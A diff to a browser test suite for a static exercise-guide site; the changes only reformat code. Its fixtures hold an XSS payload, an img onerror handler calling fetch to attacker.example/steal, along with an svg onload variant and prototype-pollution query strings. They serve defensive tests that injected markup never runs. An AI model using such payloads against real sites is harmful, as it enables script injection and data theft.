@@ -18,8 +18,10 @@ from .conftest import BuiltSite, build_site, copy_project
 
 # Markup in a title long enough to be cut off in the sidebar, the header and the footer, where
 # Material shows the whole title on hover.
-PAYLOAD = ('<img src=x onerror="window.__injected=(window.__injected||0)+1;'
-           "fetch('https://attacker.example/steal')\">")
+PAYLOAD = (
+    '<img src=x onerror="window.__injected=(window.__injected||0)+1;'
+    "fetch('https://attacker.example/steal')\">"
+)
 HOSTILE_TITLE = f"Plank {PAYLOAD} with a long tail of words so that every navigation shows it cut off"
 # The same markup in a cause's title, as a second page that every method page links to.
 HOSTILE_CAUSE = f"Stress {PAYLOAD.replace('<img', '<svg onload=window.__injected=1 ')}"
@@ -118,9 +120,14 @@ def test_markup_in_a_title_never_runs_without_the_csp(browser, hostile_site):
 BUILDER = "make-my-routine.html"
 STORAGE_KEY = "backguide-routine"
 HOSTILE_ROUTINES = [
-    "steps=constructor", "steps=__proto__", "steps=toString", "steps=%", "steps=%E0%A4%A",
+    "steps=constructor",
+    "steps=__proto__",
+    "steps=toString",
+    "steps=%",
+    "steps=%E0%A4%A",
     "steps=hasOwnProperty.h5&conditions=__proto__,constructor,valueOf",
-    "steps=bridge.__proto__.h%25,cat-camel.x9999999999", "conditions=%",
+    "steps=bridge.__proto__.h%25,cat-camel.x9999999999",
+    "conditions=%",
     "steps=" + "constructor," * 400,
 ]
 
@@ -171,8 +178,10 @@ def test_what_is_understood_is_kept_and_the_rest_is_named(browser, site_server):
     context, page, errors = _open_builder(browser, url)
     try:
         assert not errors, errors
-        names = [item.inner_text().split(":")[0].strip() for item in
-                 page.locator(".routine-card .card-steps > li").all()]
+        names = [
+            item.inner_text().split(":")[0].strip()
+            for item in page.locator(".routine-card .card-steps > li").all()
+        ]
         assert names[:2] == ["Bridge", "Cat-camel"] and len(names) == 2
         note = page.locator(".builder-dropped").inner_text()
         assert "constructor" in note and "toString" in note
